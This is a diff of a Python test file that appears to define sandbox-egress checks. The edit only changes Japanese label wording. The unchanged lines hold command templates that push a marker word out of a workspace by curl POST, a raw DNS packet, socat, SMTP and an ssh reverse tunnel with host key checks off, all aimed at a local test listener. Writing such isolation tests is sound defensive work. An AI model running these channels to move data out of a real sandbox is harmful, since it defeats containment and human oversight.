@@ -108,12 +108,12 @@ def _python(source: str) -> str:
 
 
 _from_workspace(
-    "S3-01", "a workspace: curl", "作業区画から curl", "curl -s -m 5 -d {word} http://127.0.0.1:{port}/"
+    "S3-01", "a workspace: curl", "作業領域から curl", "curl -s -m 5 -d {word} http://127.0.0.1:{port}/"
 )
 _from_workspace(
     "S3-02",
     "a workspace: a DNS query",
-    "作業区画から DNS の問い合わせ",
+    "作業領域から DNS の問い合わせ",
     _python(
         "import socket; socket.socket(2, 2).sendto(b'\\0\\7\\1\\0\\0\\1' + b'{word}', ('127.0.0.1', {port}))"
     ),
@@ -121,19 +121,19 @@ _from_workspace(
 _from_workspace(
     "S3-03",
     "a workspace: socat, as nc",
-    "作業区画から socat（nc）",
+    "作業領域から socat（nc）",
     "bash -c 'echo {word} | socat -t 1 - TCP:127.0.0.1:{port}'",
 )
 _from_workspace(
     "S3-04",
     "a workspace: mail",
-    "作業区画からメール",
+    "作業領域からメール",
     _python("import smtplib; smtplib.SMTP('127.0.0.1', {port}, timeout=3).docmd('MAIL FROM:<{word}>')"),
 )
 _from_workspace(
     "S3-05",
     "a workspace: a second ssh, a reverse tunnel",
-    "作業区画から ssh、逆トンネル",
+    "作業領域から ssh、逆トンネル",
     "ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=4 -R 2200:127.0.0.1:22 "
     "-p {port} {word}@127.0.0.1",
 )
@@ -167,7 +167,7 @@ async def from_target(stage: Stage) -> Evidence:
 not_run(
     "S3-11",
     "root of the checkpoint reads the memory of an open workspace",
-    "関所の root が開いている作業区画のメモリを読む",
+    "関所の root が開いている作業領域のメモリを読む",
     "whoever holds the machine holds what passes while it passes",
     "機械を握る者は、通過中のデータを読める",
 )
